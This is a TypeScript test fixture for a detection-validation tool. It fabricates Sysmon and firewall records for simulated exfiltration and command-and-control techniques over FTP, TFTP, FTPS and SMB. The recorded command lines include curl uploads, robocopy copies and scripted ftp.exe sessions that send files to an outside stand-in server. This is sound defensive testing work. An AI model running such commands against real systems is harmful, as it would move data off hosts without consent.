/** A console with a host that writes Sysmon records and a firewall, over a real store; and what each technique leaves behind. */
import { defaultSettings } from '../../../../contract/default-settings.ts';
import type { Settings } from '../../../../contract/session.ts';
import type { TechniqueId, Variant } from '../../../../contract/validation.ts';
import { validate } from '../../../../app/detection/validate.ts';
import { predictCard } from '../../../../app/detection/validation/prepare.ts';
import { placed } from '../../../../app/detection/validation/recipe.ts';
import { techniqueOf } from '../../../../app/detection/validation/techniques.ts';
import type { DetectionPorts } from '../../../../app/ports/detection.ts';
import { drained } from '../../../../app/ports/steps.ts';
import type { ConsoleStore, EventRow } from '../../../../sandbox/sql/store.ts';
import { portsOverStore } from '../../../sandbox/data/detection-over-store.ts';
import { event, openStore } from '../small-store.ts';

/** A full minute. */
export const atMs = 1_767_600_000_000;
export const host = '10.0.0.5';
export const server = '93.184.216.34';

/** How a console calls what Sysmon says: by IBM's names, by other ones, or not at all. */
export const consoles = {
  extension: {
    id: 'Event ID',
    process: 'Process Path',
    command: 'Command',
    parent: 'Parent Command',
    file: 'Filename',
    pipe: 'Pipe Name',
    guid: 'Process GUID',
  },
  renamed: {
    id: 'EventID',
    process: 'Image',
    command: 'Process CommandLine',
    parent: 'ParentCommandLine',
    file: 'TargetFilename',
    pipe: 'PipeName',
    guid: 'ProcessGuid',
  },
  none: null,
} as const;
export type ConsoleKind = keyof typeof consoles;

export const hostLogSource = 70;

/** A console of that kind with these events. `alsoEmpty`: properties that it has beside and never fills. Close it. */
export async function openBench(
  kind: ConsoleKind,
  rows: readonly EventRow[],
  alsoEmpty: readonly string[] = [],
): Promise<ConsoleStore> {
  const store = await openStore([]);
  const names = consoles[kind];
  const own = names === null ? [] : Object.values(names);
  const added = [...own, ...alsoEmpty.filter((name) => !(own as string[]).includes(name))];
  await store.addProperties(
    added.map((name) => ({
      name,
      // Either type: of the id it is not said which.
      type: name === 'Event ID' ? ('numeric' as const) : ('text' as const),
      enabled: true,
      useForRuleEngine: true,
    })),
  );
  const [firewall] = store.dimensions.logSources;
  if (!firewall) throw new Error('the small store has a firewall');
  await store.setDimensions({
    ...store.dimensions,
    logSources: [
      firewall,
      { ...firewall, id: hostLogSource, name: 'ws-1', typeId: 12 },
      { ...firewall, id: 71, name: 'lx-1', typeId: 11 },
    ],
  });
  await store.insertEvents(rows);
  return store;
}

export type SysmonRecord = {
  readonly id: number;
  readonly process?: string;
  readonly command?: string;
  readonly parent?: string;
  readonly file?: string;
  readonly pipe?: string;
  readonly guid?: string;
  readonly port?: number;
  readonly eventCount?: number;
  readonly startMs?: number;
  readonly endMs?: number;
};

/** A record of Sysmon as this console has it; the payload is Sysmon's own XML. */
export function sysmonRow(kind: ConsoleKind, record: SysmonRecord): EventRow {
  const { id, port, startMs = atMs, endMs = startMs + 1_500, eventCount = 1, ...fields } = record;
  const names = consoles[kind];
  const texts = Object.entries(fields) as [Exclude<keyof typeof fields, never>, string][];
  const properties: Record<string, string | number> = {};
  if (names !== null) {
    properties[names.id] = names.id === 'Event ID' ? id : String(id);
    for (const [name, value] of texts) properties[names[name]] = value;
  }
  const data = texts.map(([name, value]) => `<Data Name='${name}'>${value}</Data>`);
  return event({
    startMs,
    endMs,
    source: host,
    destination: port === undefined ? host : server,
    destinationPort: port ?? null,
    sourcePort: port === undefined ? null : 50_000,
    protocolId: port === undefined ? 255 : 6,
    logSourceId: hostLogSource,
    category: 8008,
    direction: 'L2L',
    eventCount,
    payload: `<Event><System><EventID>${id}</EventID></System><EventData>${data.join('')}</EventData></Event>`,
    properties,
  });
}

/** What a device logs of so many connections: closed ones, with bytes both ways. */
export function networkRows(
  port: number,
  { count, sent, ...more }: { readonly count: number; readonly sent: number } & Partial<EventRow>,
): EventRow[] {
  return Array.from({ length: count }, (_, n) =>
    event({
      startMs: atMs + n * 1_000,
      destinationPort: port,
      destination: server,
      source: host,
      sourcePort: 50_000 + n,
      protocolId: port === 69 ? 17 : 6,
      category: 4008,
      sent,
      received: 900,
      ...more,
    }),
  );
}

const cmd = 'C:\\Windows\\System32\\cmd.exe';
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const temp = 'C:\\Users\\u\\AppData\\Local\\Temp';

/** The process of a run; the marker does not stand in it, as it would not in a real one. */
export const guidOf = (marker: string) => `{${marker.split('').reverse().join('')}}`;

/** Records of Sysmon that the steps of a technique leave, by hand: not made from what the bench looks for. */
export function sysmonOf(technique: TechniqueId, variant: Variant, marker: string): SysmonRecord[] {
  const isTest = variant === 'test';
  const guid = guidOf(marker);
  const linux = (scheme: string, port: number): SysmonRecord[] =>
    isTest
      ? [
          { id: 11, process: '/usr/bin/bash', file: `/tmp/${marker}_upload.bin`, guid: '{bash}' },
          {
            ...{ id: 1, process: '/usr/bin/curl', parent: 'bash', guid },
            command: `curl --silent -T /tmp/${marker}_upload.bin ${scheme}://${server}/${marker}_1.bin`,
          },
          { id: 3, process: 'curl', port, guid },
        ]
      : [
          {
            ...{ id: 1, process: '/usr/bin/curl', parent: 'bash', guid },
            command: `curl --silent -o /tmp/${marker}_fetched ${scheme}://${server}/`,
          },
          { id: 3, process: 'curl', port, guid },
          { id: 11, process: '/usr/bin/curl', file: `/tmp/${marker}_fetched`, guid },
        ];
  const ftp = 'C:\\Windows\\System32\\ftp.exe';
  const robocopy = 'C:\\Windows\\System32\\Robocopy.exe';
  const records: Readonly<Record<TechniqueId, () => SysmonRecord[]>> = {
    'ftp-c2': () =>
      isTest
        ? [
            { id: 11, process: cmd, file: `${temp}\\${marker}_ftp_c2.txt`, guid: '{cmd}' },
            {
              ...{ id: 1, process: ftp, parent: cmd, guid },
              command: `ftp.exe -n -i -s:"${temp}\\${marker}_ftp_c2.txt"`,
            },
            { id: 3, process: ftp, port: 21, guid },
          ]
        : [
            {
              ...{ id: 1, process: ftp, command: `ftp.exe -n -i ${server}`, guid },
              parent: `cmd.exe /c "echo ${marker}>nul& (echo quit) | ftp.exe -n -i ${server}"`,
            },
            { id: 3, process: ftp, port: 21, guid },
          ],
    'smb-pipe': () =>
      isTest
        ? [
            {
              ...{ id: 1, process: powershell, parent: cmd, guid },
              command: `powershell.exe -Command "New-Object System.IO.Pipes.NamedPipeServerStream('msagent_f1'); '${marker}'"`,
            },
            { id: 17, process: powershell, pipe: '\\msagent_f1', guid },
          ]
        : [
            {
              ...{ id: 1, process: powershell, parent: cmd, guid },
              command: `powershell.exe -Command "New-Object System.IO.Pipes.NamedPipeClientStream('.', 'srvsvc', 'InOut'); '${marker}'"`,
            },
            { id: 18, process: powershell, pipe: '\\srvsvc', guid },
            { id: 17, process: powershell, pipe: '\\PSHost.1', guid },
          ],
    'ftp-upload': () => linux('ftp', 21),
    tftp: () => linux('tftp', 69),
    ftps: () => linux('ftps', 990),
    'smb-internet': () =>
      isTest
        ? [
            { id: 11, process: cmd, file: `${temp}\\${marker}\\${marker}_smb.bin`, guid: '{cmd}' },
            {
              ...{ id: 1, process: robocopy, parent: cmd, guid },
              command: `robocopy.exe "${temp}\\${marker}" "\\\\${server}\\public\\${marker}_1" /r:0`,
            },
            { id: 3, process: 'System', port: 445, guid: '{system}' },
          ]
        : [
            {
              ...{ id: 1, process: cmd, parent: cmd, guid },
              command: `cmd.exe /c "echo ${marker}>nul& dir \\\\${server}\\public"`,
            },
            { id: 3, process: 'System', port: 445, guid: '{system}' },
          ],
  };
  return records[technique]();
}

/** What devices log of it: enough for a card, or one small connection. */
export function networkOf(technique: TechniqueId, variant: Variant): EventRow[] {
  const { connects, bytes } = techniqueOf(technique);
  if (connects === null) return [];
  if (variant === 'twin') return networkRows(connects.port, { count: 1, sent: 150 });
  const isDirect = technique === 'smb-internet';
  return networkRows(connects.port, {
    count: isDirect ? 1 : 4,
    sent: isDirect ? 4 * bytes + 500 : 500,
  });
}

export type Checked = Awaited<ReturnType<typeof validate>>;

/** Predicts and looks, as the app does, over a store. */
export async function checked(
  store: ConsoleStore,
  asked: {
    readonly technique: TechniqueId;
    readonly variant?: Variant;
    readonly marker: string;
    readonly target?: string;
    readonly nowMs?: number;
    readonly settings?: Partial<Settings>;
    readonly ports?: (ports: DetectionPorts) => DetectionPorts;
    readonly ran?: { readonly startMs: number; readonly stopMs: number };
    readonly source?: string;
    readonly host?: string | null;
  },
): Promise<Checked> {
  const { technique, variant = 'test', marker, nowMs = atMs + 30 * 60_000 } = asked;
  const { ports: change = (same: DetectionPorts) => same } = asked;
  const settings = { ...defaultSettings, ...asked.settings };
  const request = {
    ...{ technique, variant, source: asked.source ?? host, host: asked.host ?? null, bytes: null },
    target: techniqueOf(technique).connects === null ? null : (asked.target ?? server),
  };
  const prepared = { placed: placed(request), variant, settings };
  const ports = portsOverStore(store, nowMs);
  const { signal } = new AbortController();
  const { prediction } = await predictCard(prepared, atMs - 60_000, ports, signal);
  return validate(
    {
      ...prepared,
      marker,
      prediction,
      ran: asked.ran ?? { startMs: atMs, stopMs: atMs + 60_000 },
      nowMs,
      isRuleChanged: false,
    },
    change(ports),
    { signal, pace: (steps) => Promise.resolve(drained(steps)) },
  );
}
